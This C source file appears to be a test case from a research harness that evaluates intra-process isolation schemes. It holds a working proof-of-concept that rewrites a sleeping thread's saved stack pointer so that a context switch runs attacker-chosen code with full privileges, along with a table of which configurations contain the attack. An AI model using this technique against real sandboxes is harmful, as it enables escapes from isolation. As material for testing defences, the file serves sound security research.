/*
{
  "title": "A waiting thread's saved stack pointer changed in a write window, then a switch to it: the thread goes on in the extension's code, with all rights",
  "precondition": "a write window, as uIO exports it",
  "reference": "Wahbe et al., Efficient Software-Based Fault Isolation, SOSP 1993, section 3 (thread state); Hedayati et al., Hodor: Intra-Process Isolation for High-Throughput Data Plane Libraries, USENIX ATC 2019",
  "symbols": ["$e9uio_guest9SchedulerO7threads33_D2834CD7B6A189FCB1EEF957AFFFA4E3LLSpyAC6ThreadAELLVGSgvpZ"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "crossing"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"

struct thread {
  const char *name;
  uint64_t name_length, name_flags, stack_pointer;
  uint32_t waits, signals;
  uint64_t deadline;
};
extern struct thread *threads __asm__("$e9uio_guest9SchedulerO7threads33_D2834CD7B6A189FCB1EEF957AFFFA4E3LLSpyAC6ThreadAELLVGSgvpZ");

// What switch_threads pops: six registers, and where to go on.
static uint64_t frame[7];
static uint64_t saved;

// The application's thread comes by here once, and goes on where it was.
static void detour(void) {
  GOAL_COUNT();
  __asm__ volatile(
      "movq %0, %%rsp\n"
      "popq %%r15\n popq %%r14\n popq %%r13\n popq %%r12\n popq %%rbx\n popq %%rbp\n"
      "ret" : : "m"(saved));
}

int main(void) {
  ANNOUNCE_BYPASS();
  if (attack_has_keys()) {
    BYPASS_SILENT({
      saved = threads[0].stack_pointer;
      frame[6] = (uint64_t)detour;
      USHELL_WINDOW(threads[0].stack_pointer = (uint64_t)frame);
      return 0;
    });
  }
  GOAL_COUNT();
  return 0;
}
